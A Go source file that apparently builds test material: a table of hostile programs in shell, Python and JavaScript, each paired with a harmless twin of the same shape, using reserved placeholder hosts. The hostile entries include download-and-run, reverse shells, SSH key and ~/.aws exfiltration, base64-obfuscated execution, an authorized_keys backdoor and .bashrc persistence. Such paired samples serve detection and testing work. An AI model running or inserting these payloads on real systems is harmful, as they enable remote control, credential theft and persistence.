package main

import "strings"

// family is a way in which a payload is spelled.
type family string

// The families. A command is one line that a shell gets, without quotes, dollars,
// percent signs, braces and backslashes, so that any other language can hold it in a
// string; it is a shell program as well.
const (
	command    family = "command"
	python     family = "python"
	javascript family = "javascript"
)

// code is what a carrier carries: statements of one family.
type code struct {
	family     family
	statements []string
}

// text is the program with one statement a line.
func (c code) text() string { return strings.Join(c.statements, "\n") + "\n" }

// line is the program on one line.
func (c code) line() string { return strings.Join(c.statements, "; ") }

// payload is a program that is dangerous in plain, and its benign twin: the same shape,
// and nothing that could harm.
type payload struct {
	name   string
	family family
	about  string
	evil   []string
	twin   []string
}

func (p *payload) code(benign bool) code {
	if benign {
		return code{p.family, p.twin}
	}
	return code{p.family, p.evil}
}

// payloads are in the order in which they are tried. Every name and address is
// reserved for documentation (RFC 2606, RFC 5737).
func payloads() []payload {
	return []payload{
		{
			"download-run", command, "runs what a server sends",
			[]string{`curl -fsS http://get.example.com/setup.sh | sh`},
			[]string{`cat README.md | sort`},
		},
		{
			"fetch-chmod-run", command, "saves a program and starts it",
			[]string{`wget -q http://192.0.2.10/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent`},
			[]string{`cp tools/agent.txt build/agent.txt && chmod 644 build/agent.txt && cat build/agent.txt`},
		},
		{
			"send-key", command, "sends a private key away",
			[]string{`cat ~/.ssh/id_rsa | curl -s --data-binary @- http://drop.example.com/k`},
			[]string{`cat ./docs/notes.txt | sort -u`},
		},
		{
			"reverse-shell", command, "gives a shell to a stranger",
			[]string{`bash -i >& /dev/tcp/192.0.2.10/4444 0>&1`},
			[]string{`ls -l build > build.log 2>&1`},
		},
		{
			"decode-run", command, "runs a text that was encoded",
			[]string{`echo Y3VybCAtZnNTIGh0dHA6Ly9nZXQuZXhhbXBsZS5jb20vc2V0dXAuc2ggfCBzaAo= | base64 -d | sh`},
			[]string{`echo hello world | base64 | sort`},
		},
		{
			"authorized-key", command, "lets a stranger log in later",
			[]string{`echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJmJ root@drop.example.com >> ~/.ssh/authorized_keys`},
			[]string{`echo done at last >> ./build/notes.txt`},
		},
		{
			"send-archive", command, "sends folders with keys away",
			[]string{`tar cz ~/.aws ~/.ssh | curl -s -T - http://drop.example.com/b`},
			[]string{`tar cz ./docs ./src | wc -c`},
		},

		{
			"download-run", python, "runs what a server sends, in a shell",
			[]string{`import os`, `os.system("curl -fsS http://get.example.com/setup.sh | sh")`},
			[]string{`import os`, `os.system("cat README.md | sort")`},
		},
		{
			"download-exec", python, "runs what a server sends",
			[]string{`import urllib.request`, `exec(urllib.request.urlopen("http://get.example.com/setup.py").read())`},
			[]string{`import pathlib`, `print(len(pathlib.Path("setup.txt").read_text()))`},
		},
		{
			"send-key", python, "sends a private key away",
			[]string{
				`import os, urllib.request`, `key = open(os.path.expanduser("~/.ssh/id_rsa")).read()`,
				`urllib.request.urlopen("http://drop.example.com/k", data=key.encode())`,
			},
			[]string{
				`import os, pathlib`, `text = open(os.path.join("docs", "notes.txt")).read()`,
				`pathlib.Path("build.log").write_text(text)`,
			},
		},
		{
			"reverse-shell", python, "gives a shell to a stranger",
			[]string{
				`import os, socket, subprocess`, `s = socket.socket()`, `s.connect(("192.0.2.10", 4444))`,
				`os.dup2(s.fileno(), 0)`, `os.dup2(s.fileno(), 1)`, `subprocess.call(["/bin/sh", "-i"])`,
			},
			[]string{
				`import os, shutil, subprocess`, `s = shutil.which("ls")`, `print(s)`,
				`print(os.getcwd())`, `print(len(os.listdir(".")))`, `subprocess.call(["ls", "-l"])`,
			},
		},
		{
			"decode-run", python, "runs a text that was encoded",
			[]string{
				`import base64`,
				`exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtZnNTIGh0dHA6Ly9nZXQuZXhhbXBsZS5jb20vc2V0dXAuc2ggfCBzaCIp"))`,
			},
			[]string{`import base64`, `print(base64.b64encode("hello world, and a good day".encode()))`},
		},
		{
			"start-file", python, "makes every new shell run what a server sends",
			[]string{`import os`, `open(os.path.expanduser("~/.bashrc"), "a").write("curl -fsS http://get.example.com/u.sh | sh")`},
			[]string{`import os`, `open(os.path.join("build", "notes.txt"), "a").write("done at last")`},
		},
		{
			"send-archive", python, "sends folders with keys away",
			[]string{`import subprocess`, `subprocess.run("tar cz ~/.aws ~/.ssh | curl -s -T - http://drop.example.com/b", shell=True)`},
			[]string{`import subprocess`, `subprocess.run("tar cz ./docs ./src | wc -c", shell=True)`},
		},

		{
			"download-run", javascript, "runs what a server sends, in a shell",
			[]string{`require("child_process").execSync("curl -fsS http://get.example.com/setup.sh | sh");`},
			[]string{`require("child_process").execSync("cat README.md | sort");`},
		},
		{
			"download-eval", javascript, "runs what a server sends",
			[]string{`require("http").get("http://get.example.com/setup.js", (r) => { let t = ""; r.on("data", (d) => { t += d; }); r.on("end", () => { eval(t); }); });`},
			[]string{`require("fs").readFile("setup.txt", (e, d) => { let t = ""; t += d; console.log(t.length); });`},
		},
		{
			"send-key", javascript, "sends a private key away",
			[]string{
				`const fs = require("fs"), os = require("os");`, `const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");`,
				`fetch("http://drop.example.com/k", { method: "POST", body: key });`,
			},
			[]string{
				`const fs = require("fs"), path = require("path");`, `const text = fs.readFileSync(path.join("docs", "notes.txt"));`,
				`fs.writeFileSync("build.log", text);`,
			},
		},
		{
			"reverse-shell", javascript, "gives a shell to a stranger",
			[]string{
				`const net = require("net"), cp = require("child_process");`, `const c = net.connect(4444, "192.0.2.10");`,
				`const p = cp.spawn("/bin/sh", ["-i"]);`, `c.pipe(p.stdin);`, `p.stdout.pipe(c);`,
			},
			[]string{`const cp = require("child_process");`, `const p = cp.spawn("ls", ["-l"]);`, `p.stdout.pipe(process.stdout);`},
		},
		{
			"decode-run", javascript, "runs a text that was encoded",
			[]string{`eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIC1mc1MgaHR0cDovL2dldC5leGFtcGxlLmNvbS9zZXR1cC5zaCB8IHNoIik=", "base64").toString());`},
			[]string{`console.log(Buffer.from("hello world, and a good day").toString("base64"));`},
		},
		{
			"start-file", javascript, "makes every new shell run what a server sends",
			[]string{
				`const fs = require("fs"), os = require("os");`,
				`fs.appendFileSync(os.homedir() + "/.bashrc", "curl -fsS http://get.example.com/u.sh | sh");`,
			},
			[]string{
				`const fs = require("fs"), path = require("path");`,
				`fs.appendFileSync(path.join("build", "notes.txt"), "done at last");`,
			},
		},
		{
			"send-archive", javascript, "sends folders with keys away",
			[]string{`require("child_process").exec("tar cz ~/.aws ~/.ssh | curl -s -T - http://drop.example.com/b");`},
			[]string{`require("child_process").exec("tar cz ./docs ./src | wc -c");`},
		},
	}
}
